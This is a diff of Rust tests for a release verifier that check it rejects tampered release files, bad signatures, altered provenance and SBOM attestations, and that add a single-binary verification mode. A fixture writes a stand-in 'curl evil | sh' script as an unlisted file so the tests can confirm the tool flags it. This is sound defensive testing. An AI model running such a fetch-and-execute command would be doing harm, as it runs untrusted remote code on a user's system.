@@ -934,14 +934,65 @@ fn tamper_a_listed_file_is_missing() {
 }
 
 #[test]
-fn tamper_an_extra_unlisted_file() {
+fn tamper_an_extra_file_of_any_name() {
+    // Names that look like metadata are no pass: only the files the layout defines for what
+    // SHA256SUMS lists (under this signing mode) may sit beside the listed ones.
     let (_s, dir) = release_copy();
-    std::fs::write(dir.join("install.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    let key = dir.join("cosign.pub");
+    let trusted = dir.parent().unwrap().join("trusted.pub");
+    std::fs::copy(&key, &trusted).unwrap();
+    for name in [
+        "install.sh",
+        "notes.txt",
+        "evil.sigstore.json",
+        "evil.intoto.jsonl",
+        "SHA256SUMS.pem",
+        "SHA256SUMS.sig.bak",
+        "app-1.0.0-linux-amd64.cdx.sigstore.json",
+        "app-9.9.9-linux-amd64.cdx.intoto.jsonl",
+        "app-1.0.0-linux-amd64.cdx.json.cdx.intoto.jsonl",
+        "manifest.json.sig",
+    ] {
+        std::fs::write(dir.join(name), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        assert_fails(
+            &dir,
+            &trusted,
+            &format!("complete release: not listed in SHA256SUMS: {name} "),
+        );
+        std::fs::remove_file(dir.join(name)).unwrap();
+    }
+    let (code, report) = verify_json(&dir, &trusted);
+    assert_eq!((code, failed(&report)), (0, Vec::<String>::new()));
+}
+
+#[test]
+fn tamper_the_records_beside_the_release() {
+    // The unlisted files the layout allows are checked as what they claim to be.
+    let (_s, dir) = release_copy();
+    let trusted = dir.parent().unwrap().join("trusted.pub");
+    std::fs::copy(dir.join("cosign.pub"), &trusted).unwrap();
+    let (_, other) = other_key(dir.parent().unwrap());
+    std::fs::copy(&other, dir.join("cosign.pub")).unwrap();
+    assert_fails(&dir, &trusted, "metadata cosign.pub: holds key ");
+    std::fs::copy(&trusted, dir.join("cosign.pub")).unwrap();
+
+    std::fs::write(dir.join("manifest.json"), "{}").unwrap();
     assert_fails(
         &dir,
-        &dir.join("cosign.pub"),
-        "complete release: not listed in SHA256SUMS: install.sh",
+        &trusted,
+        "metadata manifest.json: not an xrelease manifest",
     );
+    std::fs::remove_file(dir.join("manifest.json")).unwrap();
+    std::fs::write(dir.join("publish-plan.json"), "[1]").unwrap();
+    assert_fails(
+        &dir,
+        &trusted,
+        "metadata publish-plan.json: not a publish plan",
+    );
+    std::fs::remove_file(dir.join("publish-plan.json")).unwrap();
+    // Without xrelease's records, the release still verifies: they are never published.
+    let (code, report) = verify_json(&dir, &trusted);
+    assert_eq!((code, failed(&report)), (0, Vec::<String>::new()));
 }
 
 #[test]
@@ -1038,7 +1089,13 @@ fn tamper_the_wrong_public_key_is_given() {
         "signature SHA256SUMS.sig: the signature does not verify",
     );
     // Everything signed fails; nothing about the files themselves does.
-    let signed = ["signature ", "attestation ", "provenance ", "sbom-attest "];
+    let signed = [
+        "signature ",
+        "attestation ",
+        "provenance ",
+        "sbom-attest ",
+        "metadata cosign.pub",
+    ];
     assert!(
         failures
             .iter()
@@ -2318,4 +2375,241 @@ fn the_release_jobs_commands_publish_a_keyless_release_that_verifies() {
         "https://github.com/fixture/basic/actions/runs/777/attempts/1"
     );
     assert_never_leaked(token, &[&out], &[dir.as_path()]);
+}
+
+// ---- one file at a time: verify FILE... --from DIR ----------------------------------------
+
+/// The keyed release split as a user who downloaded only some files has it: the binaries in
+/// `downloads/`, the release's metadata (no binary) in `meta/`.
+fn one_file_setup() -> (
+    tempfile::TempDir,
+    std::path::PathBuf,
+    std::path::PathBuf,
+    xrelease::signing::key::PrivateKey,
+) {
+    let (scratch, dir, key) = keyed_copy();
+    let downloads = scratch.path().join("downloads");
+    std::fs::create_dir(&downloads).unwrap();
+    for entry in std::fs::read_dir(&dir).unwrap() {
+        let path = entry.unwrap().path();
+        let name = path.file_name().unwrap().to_str().unwrap().to_string();
+        if name.contains("-1.0.0-linux-") && !name.contains(".cdx.") {
+            std::fs::rename(&path, downloads.join(&name)).unwrap();
+        }
+    }
+    (scratch, dir, downloads, key)
+}
+
+fn verify_from(
+    files: &[std::path::PathBuf],
+    from: &std::path::Path,
+    key: &std::path::Path,
+) -> (i32, serde_json::Value) {
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
+        .arg("verify")
+        .args(files)
+        .arg("--from")
+        .arg(from)
+        .arg("--key")
+        .arg(key)
+        .arg("--json")
+        .output()
+        .unwrap();
+    let report = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!("{e}: {}", String::from_utf8_lossy(&out.stderr));
+    });
+    (out.status.code().unwrap(), report)
+}
+
+#[track_caller]
+fn assert_from_fails(
+    file: &std::path::Path,
+    from: &std::path::Path,
+    key: &std::path::Path,
+    expected: &str,
+) {
+    let (code, report) = verify_from(&[file.to_path_buf()], from, key);
+    let failures = failed(&report);
+    assert_eq!(code, 3, "{failures:?}");
+    assert!(
+        failures.iter().any(|f| f.starts_with(expected)),
+        "expected `{expected}…`, got {failures:?}"
+    );
+}
+
+#[test]
+fn one_binary_at_a_time_verifies_against_the_release_metadata() {
+    let (_s, meta, downloads, _) = one_file_setup();
+    let key = meta.join("cosign.pub");
+    let binaries: Vec<std::path::PathBuf> = std::fs::read_dir(&downloads)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    assert_eq!(binaries.len(), 6);
+    for binary in &binaries {
+        let name = binary.file_name().unwrap().to_str().unwrap();
+        let (code, report) = verify_from(std::slice::from_ref(binary), &meta, &key);
+        assert_eq!((code, failed(&report)), (0, Vec::<String>::new()), "{name}");
+        let checks: Vec<String> = report["checks"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|c| {
+                format!(
+                    "{} {}",
+                    c["check"].as_str().unwrap(),
+                    c["subject"].as_str().unwrap()
+                )
+            })
+            .collect();
+        for needle in [
+            format!("checksum {name}"),
+            format!("checksum {name}.cdx.json"),
+            "signature SHA256SUMS.sig".into(),
+            "provenance subjects".into(),
+            format!("sbom {name}.cdx.json"),
+            format!("sbom-attest {name}.cdx.intoto.jsonl"),
+        ] {
+            assert!(checks.contains(&needle), "{needle}: {checks:?}");
+        }
+        // Only this binary's lines and attestation are checked, and nothing asks for the rest.
+        assert_eq!(
+            checks
+                .iter()
+                .filter(|c| c.starts_with("sbom-attest "))
+                .count(),
+            1
+        );
+    }
+    let (code, report) = verify_from(&binaries, &meta, &key);
+    assert_eq!((code, failed(&report)), (0, Vec::<String>::new()));
+}
+
+#[test]
+fn one_binary_at_a_time_fails_for_each_tamper_of_what_it_uses() {
+    let bin = "app-1.0.0-linux-amd64";
+    let other = "other-1.0.0-linux-arm64";
+    let setup = || {
+        let (s, meta, downloads, key) = one_file_setup();
+        let file = downloads.join(bin);
+        (s, meta.clone(), file, meta.join("cosign.pub"), key)
+    };
+
+    // The binary itself changed.
+    let (_s, meta, file, pubkey, _) = setup();
+    flip_byte(&file, 4096);
+    assert_from_fails(
+        &file,
+        &meta,
+        &pubkey,
+        &format!("checksum {bin}: expected sha256"),
+    );
+
+    // A file the release does not list (another name, or not a binary).
+    let (_s, meta, file, pubkey, _) = setup();
+    let renamed = file.with_file_name("app-1.0.1-linux-amd64");
+    std::fs::rename(&file, &renamed).unwrap();
+    assert_from_fails(&renamed, &meta, &pubkey, "file app-1.0.1-linux-amd64: ");
+
+    // Its SHA256SUMS line edited to match a changed binary: the signature no longer verifies.
+    let (_s, meta, file, pubkey, _) = setup();
+    flip_byte(&file, 4096);
+    let digest = sha256_hex(&std::fs::read(&file).unwrap());
+    rewrite_sums(&meta, |t| {
+        t.lines()
+            .map(|l| {
+                if l.ends_with(&format!("  {bin}")) {
+                    format!("{digest}  {bin}\n")
+                } else {
+                    format!("{l}\n")
+                }
+            })
+            .collect()
+    });
+    assert_from_fails(
+        &file,
+        &meta,
+        &pubkey,
+        "signature SHA256SUMS.sig: the signature does not verify",
+    );
+
+    // The signature is missing.
+    let (_s, meta, file, pubkey, _) = setup();
+    std::fs::remove_file(meta.join("SHA256SUMS.sig")).unwrap();
+    assert_from_fails(
+        &file,
+        &meta,
+        &pubkey,
+        "signature SHA256SUMS.sig: SHA256SUMS.sig is missing",
+    );
+
+    // The provenance, correctly signed, names other bytes for this binary.
+    let (_s, meta, file, pubkey, key) = setup();
+    resign(&meta.join("provenance.intoto.jsonl"), &key, IN_TOTO, |st| {
+        for s in st["subject"].as_array_mut().unwrap() {
+            if s["name"] == bin {
+                s["digest"]["sha256"] = serde_json::json!("0".repeat(64));
+            }
+        }
+    });
+    assert_from_fails(&file, &meta, &pubkey, "provenance subjects: ");
+
+    // The provenance is missing.
+    let (_s, meta, file, pubkey, _) = setup();
+    std::fs::remove_file(meta.join("provenance.intoto.jsonl")).unwrap();
+    assert_from_fails(
+        &file,
+        &meta,
+        &pubkey,
+        "attestation provenance.intoto.jsonl: provenance.intoto.jsonl is missing",
+    );
+
+    // Its SBOM changed.
+    let (_s, meta, file, pubkey, _) = setup();
+    flip_byte(&meta.join(format!("{bin}.cdx.json")), 200);
+    assert_from_fails(
+        &file,
+        &meta,
+        &pubkey,
+        &format!("checksum {bin}.cdx.json: expected sha256"),
+    );
+
+    // Its SBOM attestation is another binary's.
+    let (_s, meta, file, pubkey, _) = setup();
+    std::fs::copy(
+        meta.join(format!("{other}.cdx.intoto.jsonl")),
+        meta.join(format!("{bin}.cdx.intoto.jsonl")),
+    )
+    .unwrap();
+    assert_from_fails(
+        &file,
+        &meta,
+        &pubkey,
+        &format!("sbom-attest {bin}.cdx.intoto.jsonl: the subject must be {bin}"),
+    );
+
+    // Another key.
+    let (_s, meta, file, _, _) = setup();
+    let (_, other_key) = other_key(meta.parent().unwrap());
+    assert_from_fails(
+        &file,
+        &meta,
+        &other_key,
+        "signature SHA256SUMS.sig: the signature does not verify",
+    );
+}
+
+#[test]
+fn verify_takes_one_directory_or_files_with_from() {
+    let (_s, dir) = release_copy();
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_xrelease"))
+        .arg("verify")
+        .arg(&dir)
+        .arg(dir.join("app-1.0.0-linux-amd64"))
+        .arg("--key")
+        .arg(dir.join("cosign.pub"))
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("binaries with `--from DIR`"));
 }
